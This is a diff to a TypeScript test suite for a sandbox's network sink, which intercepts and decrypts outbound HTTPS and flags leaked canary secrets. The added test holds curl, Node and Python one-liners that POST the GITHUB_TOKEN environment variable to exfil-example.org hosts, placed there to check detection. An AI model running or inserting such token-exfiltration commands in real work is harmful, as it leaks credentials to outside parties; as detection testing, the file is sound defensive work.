@@ -82,7 +82,7 @@ describe('evidence with the network sink', () => {
     expect(hit).toMatchObject({ encoding: 'hex', proof: true });
   });
 
-  it('routes raw TCP to any address and TLS to the sink, which logs destination, SNI and bytes', async () => {
+  it('routes TCP and DNS sent to any address into the sink, which logs the original destination', async () => {
     const result = await sandbox.run({
       argv: ['python3', 'egress.py'],
       env: {},
@@ -102,15 +102,66 @@ describe('evidence with the network sink', () => {
       (r) => r.kind === 'dns' && r.host === 'udp-egress.example.org',
     );
     expect(udpDns).toBeDefined();
+  });
 
-    const tls = await sandbox.run({
-      argv: ['curl', '-sk', '-m', '3', 'https://tls-sni.exfil-example.org:8443/secret'],
+  it('decrypts HTTPS from curl, Node and Python with its own CA, and logs refused handshakes by SNI', async () => {
+    const clients: [string, string[]][] = [
+      ['curl', ['sh', '-c', 'curl -s -m 5 https://curl.exfil-example.org/c -d "$GITHUB_TOKEN"']],
+      [
+        'node',
+        [
+          'node',
+          '-e',
+          "fetch('https://node.exfil-example.org/n', {method: 'POST', body: process.env.GITHUB_TOKEN}).then((r) => r.text()).then(console.log)",
+        ],
+      ],
+      [
+        'python',
+        [
+          'python3',
+          '-c',
+          "import os, urllib.request as u; print(u.urlopen(u.Request('https://py.exfil-example.org/p', data=os.environ['GITHUB_TOKEN'].encode()), timeout=5).read())",
+        ],
+      ],
+    ];
+    for (const [client, argv] of clients) {
+      const result = await sandbox.run({ argv, env: {}, network: 'sink', limits: LIMITS });
+      expect(result.stdout, client).toContain('{}');
+      const https = result.evidence.network.sink.find((r) => r.protocol === 'https');
+      expect(https, client).toMatchObject({
+        host: `${client === 'python' ? 'py' : client}.exfil-example.org`,
+        method: 'POST',
+        port: 443,
+      });
+      expect(
+        findCanaryHits(result.evidence)
+          .filter((h) => h.kind === 'sink')
+          .map((h) => h.canary),
+        client,
+      ).toEqual(['GITHUB_TOKEN']);
+    }
+    // A client that trusts nothing (pinning, its own store) refuses the sink: the attempt is still logged.
+    const pinned = await sandbox.run({
+      argv: [
+        'curl',
+        '-s',
+        '-m',
+        '3',
+        '--cacert',
+        '/dev/null',
+        '--capath',
+        '/nonexistent',
+        'https://pinned.exfil-example.org:8443/',
+      ],
       env: {},
       network: 'sink',
       limits: LIMITS,
     });
-    const hello = tls.evidence.network.sink.find((r) => r.protocol === 'tls');
-    expect(hello).toMatchObject({ host: 'tls-sni.exfil-example.org', port: 8443 });
+    expect(pinned.exitCode).not.toBe(0);
+    expect(pinned.evidence.network.sink.find((r) => r.protocol === 'tls')).toMatchObject({
+      host: 'pinned.exfil-example.org',
+      port: 8443,
+    });
   });
 });
 
